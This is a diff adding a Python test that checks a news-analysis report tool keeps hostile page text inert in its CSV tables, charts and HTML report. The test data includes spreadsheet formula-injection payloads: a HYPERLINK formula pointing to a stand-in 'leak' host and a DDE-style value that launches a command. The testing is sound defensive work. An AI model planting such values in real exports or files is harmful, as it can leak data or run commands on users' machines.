@@ -352,3 +352,69 @@ def test_hostile_page_text_is_escaped_in_the_report(tmp_path: Path) -> None:
         assert payload not in html, payload
     assert "px-body" in html and "px-img" in html   # the text is shown, escaped, not dropped
     assert "&lt;script&gt;" in html
+
+
+FORMULA_NAME = '=HYPERLINK("http://px.example/?leak","open me")'
+FORMULA_TITLE = "+cmd|' /C calc'!A0 and the council vote"
+FORMULA_AUTHOR = "=Jane Doe"   # an extractor keeps a name-like author; "@SUM(1+1)" is dropped as no name
+CALL_TO_ACTION = "Subscribe to our channel to follow the latest news first."
+
+
+def _formula_page(outlet: str, said: str) -> str:
+    body = "".join(f"<p>Paragraph {i} of the {outlet} story: the council {said} the vote on the budget was postponed "
+                   f"to next week by the members, after a long debate on the town's roads and schools.</p>"
+                   for i in range(4))
+    return (f"<html><head><title>{FORMULA_TITLE}</title><meta name='author' content='{FORMULA_AUTHOR}'></head><body>"
+            f"<article><h1>{FORMULA_TITLE}</h1>{body}<p>=1+2 members voted against the plan, the clerk said on "
+            f"Tuesday.</p><p>{CALL_TO_ACTION}</p></article></body></html>")
+
+
+def test_names_titles_and_text_from_pages_and_specs_stay_inert_end_to_end(tmp_path: Path) -> None:
+    """A TeX-like outlet name reaches every chart as plain text, formula-like names, titles, authors and
+    sentences land in the CSV tables prefixed with ' (and come back exactly through read_table), and a
+    call to action is not article text."""
+    from parallax.report.tables import read_table
+
+    env = guarded_env(tmp_path)
+    (tmp_path / "a.html").write_text(_formula_page("first", "said"), encoding="utf-8")
+    (tmp_path / "b.html").write_text(_formula_page("second", "claimed"), encoding="utf-8")
+    spec = tmp_path / "story.yaml"
+    spec.write_text("story: inert\ntitle: Council vote\noutlets:\n"
+                    "  - {name: '$\\undefinedmacro$', key: tex, file: a.html}\n"
+                    f"  - {{name: '{FORMULA_NAME.replace(chr(39), chr(39) * 2)}', key: formula, file: b.html}}\n",
+                    encoding="utf-8")
+    result = parallax(env, "run", str(spec), "--out", str(tmp_path / "out"), "--offline")
+    assert result.returncode == 0, result.stderr
+    folder = Path(result.stdout.strip().splitlines()[-1]).parent
+    assert {p.stem for p in (folder / "charts").glob("*.png")} >= set(CHARTS)
+    assert {p.stem for p in (folder / "charts").glob("*.svg")} >= set(CHARTS)
+    svg = (folder / "charts" / "reading_ease.svg").read_text(encoding="utf-8")
+    assert "undefinedmacro" in svg or "$" in svg   # the name is drawn (as glyphs or text), not parsed as TeX
+
+    raw = (folder / "tables" / "articles.csv").read_text(encoding="utf-8")
+    assert "'" + FORMULA_NAME.replace('"', '""') in raw and "'" + FORMULA_TITLE in raw and "'" + FORMULA_AUTHOR in raw
+    articles = read_table(folder / "tables" / "articles.csv", keep_default_na=False).set_index("outlet")
+    assert articles.loc["formula", "name"] == FORMULA_NAME and articles.loc["tex", "name"] == "$\\undefinedmacro$"
+    assert set(articles.title) == {FORMULA_TITLE} and set(articles.authors) == {FORMULA_AUTHOR}
+    assert all(CALL_TO_ACTION not in text and "=1+2 members" in text for text in articles.text)
+
+    import csv
+
+    for table in sorted((folder / "tables").glob("*.csv")):
+        with table.open(encoding="utf-8", newline="") as handle:
+            for row in csv.reader(handle):
+                for cell in row:
+                    assert not cell[:1] in ("=", "+", "@", "\t", "\r") or _number(cell), (table.name, cell)
+                    assert not cell.startswith("-") or _number(cell), (table.name, cell)
+    claims = read_table(folder / "tables" / "claims.csv", keep_default_na=False)
+    assert any(s.startswith("=1+2 members") for s in claims.sentence)
+    report = (folder / "report.html").read_text(encoding="utf-8")
+    assert "undefinedmacro" in report and "Traceback" not in report
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
